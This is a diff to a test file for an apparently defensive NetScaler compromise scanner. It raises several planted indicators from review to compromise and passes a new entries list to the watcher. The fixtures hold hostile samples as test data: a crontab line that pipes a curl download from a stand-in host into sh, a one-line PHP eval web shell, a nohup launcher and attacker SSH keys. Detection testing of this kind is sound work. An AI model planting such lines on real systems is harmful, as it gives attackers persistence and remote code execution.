@@ -27,6 +27,7 @@ from ansible_collections.tourniquet.netscaler.plugins.plugin_utils.traces.watchi
 from simulator import Simulator
 from simulator.server.python_api import ApplianceHandle
 from tests import marker_fleet
+from tests.hunt_fleet import ENTRIES
 from tests.marker_fleet import COMPROMISE, MESSAGES, REVIEW, UNSEEABLE, Marker, Plant, data, file, line
 from tests.stage.memory import Stage
 
@@ -50,20 +51,20 @@ def elf(path: str) -> Plant:
 UNROTATED = (
     # ioc-scanner-CVE-2019-19781, nshunt
     at("/var/cron/tabs/nobody", COMPROMISE, "0 0 1 1 * true\n"),
-    at("/netscaler/portal/templates/a1.xml", REVIEW),
+    at("/netscaler/portal/templates/a1.xml", COMPROMISE),
     at("/netscaler/portal/scripts/PersonalBookmak.pl", COMPROMISE),
-    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", REVIEW),
+    at("/var/tmp/netscaler/portal/templates/a.xml.ttc2", COMPROMISE),
     at("/var/vpn/bookmark/u.xml", COMPROMISE, "<x>template.new('x')</x>"),
     at("/var/vpn/bookmark/pwnpzi1337.pl", COMPROMISE),
-    Marker("NOTROBIN", REVIEW, "/var/nstmp/.nscache", file("/var/nstmp/.nscache/httpd")),
-    Marker("miner", REVIEW, "/var/tmp/netscalerd", elf("/var/tmp/netscalerd")),
+    Marker("NOTROBIN", COMPROMISE, "/var/nstmp/.nscache/httpd", file("/var/nstmp/.nscache/httpd")),
+    Marker("miner", COMPROMISE, "/var/tmp/netscalerd", elf("/var/tmp/netscalerd")),
     # citrix-ioc-scanner-cve-2023-3519, netscaler-ir-collector
     at("/var/vpn/theme/.theme.php", COMPROMISE, "<?php\n"),
     at("/var/vpn/themes/insight-new-min.js", REVIEW),
     at("/var/vpn/themes/info.html", COMPROMISE, "<html><?php eval($_POST['x']); ?></html>\n"),
     at("/var/vpn/x.php", COMPROMISE),
     at("/var/netscaler/logon/LogonPoint/uiareas/linux/p.php", COMPROMISE),
-    at("/var/netscaler/logon/LogonPoint/custom/.slap.receiver", REVIEW),
+    at("/var/netscaler/logon/LogonPoint/custom/.slap.receiver", COMPROMISE),
     at("/var/netscaler/logon/LogonPoint/strings.en.js", REVIEW),
     at("/var/netscaler/logon/a.html", REVIEW),
     # netscaler-ctx697096-checker
@@ -75,15 +76,15 @@ UNROTATED = (
     at("/tmp/sh", REVIEW, "#!/bin/sh\n"),
     at("/.x", REVIEW),
     Marker("executable in a directory of crashes", REVIEW, "/var/core/1/nsd", elf("/var/core/1/nsd")),
-    at("/nsconfig/.slap", REVIEW),
+    at("/nsconfig/.slap", COMPROMISE),
     at("/nsconfig/rc.netscaler", REVIEW, "nohup sh /var/tmp/x\n"),
     at("/nsconfig/nsafter.sh", REVIEW, "true\n"),
-    at("/nsconfig/httpd.conf", REVIEW, "php_flag engine on\n"),
+    at("/nsconfig/httpd.conf", COMPROMISE, "php_flag engine on\n"),
     at("/nsconfig/ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
     at("/root/.ssh/authorized_keys", REVIEW, "ssh-ed25519 AAAA x\n"),
-    at("/etc/crontab", REVIEW, "0 * * * * root curl http://192.0.2.66/x | sh\n"),
+    at("/etc/crontab", COMPROMISE, "0 * * * * root curl http://192.0.2.66/x | sh\n"),
     at("/nsconfig/crontab", REVIEW, "0 * * * * root true\n"),
-    at("/var/cron/tabs/root", REVIEW, "0 * * * * sh /var/tmp/x\n"),
+    at("/var/cron/tabs/root", COMPROMISE, "0 * * * * sh /var/tmp/x\n"),
     # page BSV for enhanced security
     Marker("unsigned file that was run", REVIEW, "/var/tmp/x", line(MESSAGES, VERIEXEC.format(NO_FINGERPRINT, "/var/tmp/x"))),
     Marker("changed executable", COMPROMISE, "/bin/sh", line(MESSAGES, VERIEXEC.format(MISMATCH, "/bin/sh"))),
@@ -145,7 +146,7 @@ def look(
 ) -> tuple[WatchedState, Examination, int]:
     """Return the state, the examination and the number of requests of one run."""
     with Connection(Stage(simulator, directory, host).appliance) as connection:
-        state, examined = Watch(host, accepted, accepted, **options).look(connection, AT)
+        state, examined = Watch(host, accepted, accepted, entries=ENTRIES, **options).look(connection, AT)
     return state, examined, len(connection.exchanges)
 
 
